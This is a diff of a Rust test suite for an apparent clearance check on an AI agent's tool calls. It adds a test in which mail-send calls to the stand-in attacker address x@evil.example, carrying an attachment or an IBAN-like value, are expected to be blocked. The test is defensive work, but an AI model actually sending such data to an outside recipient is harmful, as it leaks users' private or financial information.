@@ -198,7 +198,7 @@ mod tests {
 
     fn who() -> Who {
         Who {
-            caller: Caller { subject: "S-1".into(), name: "A".into(), upn: "a".into(), via: Via::Form },
+            caller: Caller { subject: "S-1".into(), name: "A".into(), upn: "a".into(), via: Via::Form, os_user: None },
             groups: vec![Group { name: "GG".into(), sid: "S-1-5-1".into() }],
         }
     }
@@ -265,6 +265,20 @@ mod tests {
         ] {
             let found = clear_tool(call.clone(), &rule(), &own, &rules).map_or_else(|d| d.rule, |_| "ok".to_owned());
             assert_eq!(found, expected, "{} {:?}", call.arguments, call.labels);
+        }
+    }
+
+    /// What nobody labelled is the strictest there is; what somebody labelled too low is what it looks like.
+    #[test]
+    fn no_argument_slips_past_its_label() {
+        let call = |arguments: Value| ToolCall { arguments, ..send("x@evil.example", Trust::Trusted, Schutzbedarf::Kein) };
+        for (arguments, expected) in [
+            (json!({ "an": "x@evil.example", "text": "x" }), "ok"),
+            (json!({ "an": "x@evil.example", "text": "x", "anhang": "y" }), "tool:mail/senden.clearance"),
+            (json!({ "an": "x@evil.example", "text": "DE02120300000000202051" }), "tool:mail/senden.clearance"),
+        ] {
+            let found = clear_tool(call(arguments.clone()), &rule(), &[], &Rules::default()).map_or_else(|d| d.rule, |_| "ok".to_owned());
+            assert_eq!(found, expected, "{arguments}");
         }
     }
 
